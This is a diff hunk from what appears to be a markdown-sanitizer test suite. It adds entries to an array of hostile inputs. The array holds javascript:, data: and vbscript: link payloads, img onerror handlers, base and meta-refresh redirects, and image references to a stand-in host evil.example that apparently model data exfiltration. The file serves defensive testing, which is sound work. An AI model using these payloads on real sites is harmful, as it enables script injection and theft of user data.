@@ -144,6 +144,7 @@ const hostile = [
   '[x](javascript:alert(1))', '[x](JaVaScRiPt:alert(1))', '[x](java\tscript:alert(1))', '[x](&#106;avascript:alert(1))', '[x](javascript&colon;alert(1))',
   '[x](<java\nscript:alert(1)>)', '[x](data:text/html,<script>alert(1)</script>)', '[x](vbscript:msgbox)', '[x](//evil.example)', '[x](/api/threads)', '[x](\\\\evil)',
   '<javascript:alert(1)>', '[x][r]\n\n[r]: javascript:alert(1)', '![x](javascript:alert(1))', '![a](https://evil.example/?q=S)', '![a][r]\n\n[r]: https://evil.example/?q=S',
+  '[r]: https://evil.example/?q=S\n\n![ref][r] and ![r][] and ![r] and [![r][r]][r]', '> [r]: <https://evil.example/?q=S>\n>\n> - ![ref][r',
   '[![a](https://evil.example/i)](https://evil.example/)', '<style>*{display:none}</style>', '<base href="https://evil.example/">', '<form action=/api><button>x</button></form>',
   '<meta http-equiv=refresh content="0;url=//evil">', '<kbd onclick=alert(1)>x</kbd>', '<sub><img src=x onerror=alert(1)></sub>', '```"><script>alert(1)</script>\nx\n```',
   '| <img src=x onerror=alert(1)> |\n|---|\n| [x](javascript:1) |', '[https://good.example](https://evil.example)', '[x](https://good.example@evil.example/)',
